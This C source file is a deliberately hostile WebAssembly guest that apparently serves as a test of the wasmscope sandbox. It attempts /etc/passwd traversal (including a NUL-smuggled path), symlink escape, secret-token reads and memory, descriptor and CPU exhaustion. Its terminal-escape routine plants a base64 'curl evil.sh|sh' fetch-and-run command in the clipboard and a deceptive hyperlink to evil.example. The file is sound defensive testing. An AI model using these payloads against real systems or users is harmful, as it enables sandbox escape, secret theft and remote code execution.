/* One hostile guest, many behaviours: argv[1] names the attack, argv[2] (optional)
   a count. Each one must be contained by wasmscope's limits or policy, and reported
   with its own event, while the host goes on. Expects a preopen at /data holding a
   file "in.txt" (and, for "symlink", a link "/data/out" pointing outside). */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <wasi/api.h>

static long count = 0;

static void try_open(const char *path, int flags) {
    int fd = open(path, flags, 0644);
    if (fd >= 0) {
        char buf[64] = {0};
        ssize_t n = read(fd, buf, sizeof buf - 1);
        printf("OPENED %s (%zd bytes)\n", path, n);
        close(fd);
    } else {
        printf("denied %s: %s\n", path, strerror(errno));
    }
}

/* path_open with bytes libc would not pass (a NUL inside the path). */
int32_t raw_path_open(int32_t fd, int32_t dirflags, const char *path, size_t path_len,
                      int32_t oflags, int64_t base, int64_t inheriting, int32_t fdflags,
                      int32_t *opened)
    __attribute__((__import_module__("wasi_snapshot_preview1"), __import_name__("path_open")));

static void raw_open(const char *path, size_t len) {
    int32_t fd;
    int32_t e = raw_path_open(3, 0, path, len, 0, __WASI_RIGHTS_FD_READ, 0, 0, &fd);
    printf("raw %zu bytes: errno %d\n", len, (int)e);
}

static int traversal(void) {
    try_open("/etc/passwd", O_RDONLY);
    try_open("/data/../etc/passwd", O_RDONLY);
    try_open("/data/a/../../etc/passwd", O_RDONLY);
    try_open("/data/in.txt/", O_RDONLY);
    raw_open("in.txt\0/../../etc/passwd", 24);
    raw_open("/etc/passwd", 11); /* absolute, under the preopen's descriptor */
    return 0;
}

static int passwd(void) {
    try_open("/etc/passwd", O_RDONLY);
    return 0;
}

static int symlink_out(void) {
    try_open("/data/out", O_RDONLY);
    return 0;
}

static int write_ro(void) {
    try_open("/data/in.txt", O_WRONLY | O_TRUNC);
    try_open("/data/new.txt", O_WRONLY | O_CREAT);
    return 0;
}

static int env_exfil(void) {
    const char *secret = getenv("SECRET_TOKEN");
    printf("token=%s\n", secret ? secret : "(none)");
    return 0;
}

static int clock_loop(void) {
    struct timespec ts = {0};
    for (long i = 0; i < (count ? count : 100000); i++) clock_gettime(CLOCK_MONOTONIC, &ts);
    printf("clock %lld\n", (long long)ts.tv_sec);
    return 0;
}

static int long_sleep(void) {
    sleep(count ? (unsigned)count : 3600);
    return 0;
}

static int random_flood(void) {
    static unsigned char buf[256];
    unsigned long total = 0;
    for (long i = 0; i < (count ? count : 40000); i++) {
        if (getentropy(buf, sizeof buf) != 0) break;
        total += sizeof buf;
    }
    printf("random %lu bytes\n", total);
    return 0;
}

static int fd_exhaust(void) {
    long opened = 0;
    for (long i = 0; i < (count ? count : 5000); i++) {
        if (open("/data/in.txt", O_RDONLY) < 0) break;
        opened++;
    }
    printf("opened %ld\n", opened);
    return 0;
}

static int escapes(void) {
    /* clear the screen, set the window title, put text in the clipboard (OSC 52),
       and a hyperlink that hides its target (OSC 8) */
    fputs("\x1b[2J\x1b]0;owned\x07\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07", stdout);
    fputs("\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07\n", stdout);
    fputs("progress\r100%\x08\n", stdout);
    return 0;
}

static int flood(void) {
    static char line[4096];
    memset(line, 'x', sizeof line - 1);
    line[sizeof line - 2] = '\n';
    for (;;) fputs(line, stdout);
}

static int spin(void) {
    volatile unsigned long x = 0;
    for (;;) x++;
}

/* Kept here, so that the compiler cannot drop the allocations (an unused malloc is
   dead code at -O2, and the loop would spin instead). */
static void *volatile kept;

static int membomb(void) {
    for (;;) {
        void *p = malloc(1 << 20);
        if (!p) break;
        memset(p, 1, 1 << 20);
        kept = p;
    }
    abort();
}

static int recurse(int n) {
    volatile char pad[256];
    pad[0] = (char)n;
    return recurse(n + 1) + pad[0];
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "";
    if (argc > 2) count = atol(argv[2]);
    if (!strcmp(what, "traversal")) return traversal();
    if (!strcmp(what, "passwd")) return passwd();
    if (!strcmp(what, "symlink")) return symlink_out();
    if (!strcmp(what, "write-ro")) return write_ro();
    if (!strcmp(what, "env")) return env_exfil();
    if (!strcmp(what, "clock")) return clock_loop();
    if (!strcmp(what, "sleep")) return long_sleep();
    if (!strcmp(what, "random")) return random_flood();
    if (!strcmp(what, "fds")) return fd_exhaust();
    if (!strcmp(what, "escapes")) return escapes();
    if (!strcmp(what, "flood")) return flood();
    if (!strcmp(what, "spin")) return spin();
    if (!strcmp(what, "membomb")) return membomb();
    if (!strcmp(what, "stack")) return recurse(0);
    if (!strcmp(what, "stray")) { printf("stray\n"); return *(volatile int *)0xfffffff0u; }
    if (!strcmp(what, "exit")) return count ? (int)count : 42;
    fprintf(stderr, "usage: hostile ATTACK [COUNT]\n");
    return 2;
}
